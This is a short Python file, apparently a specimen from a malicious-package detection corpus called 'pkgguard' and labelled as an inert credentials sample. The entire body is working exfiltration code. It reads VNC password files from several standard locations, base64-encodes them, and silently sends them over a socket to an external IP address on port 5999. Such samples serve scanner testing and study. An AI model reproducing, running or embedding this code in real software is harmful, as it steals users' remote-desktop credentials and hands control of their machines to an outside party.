# pkgguard corpus 882 (credentials), modelled on [taxonomy]; inert, never run.
import base64
import os
import socket

blobs = []
for path in ("~/.vnc/passwd", "~/.config/tigervnc/passwd", "/etc/vnc/passwd"):
    full = os.path.expanduser(path)
    try:
        with open(full, "rb") as fh:
            blobs.append(base64.b64encode(fh.read()).decode())
    except OSError:
        continue

if blobs:
    try:
        with socket.create_connection(("100.64.77.21", 5999), timeout=6) as conn:
            conn.sendall(("|".join(blobs) + "\n").encode())
    except OSError:
        pass
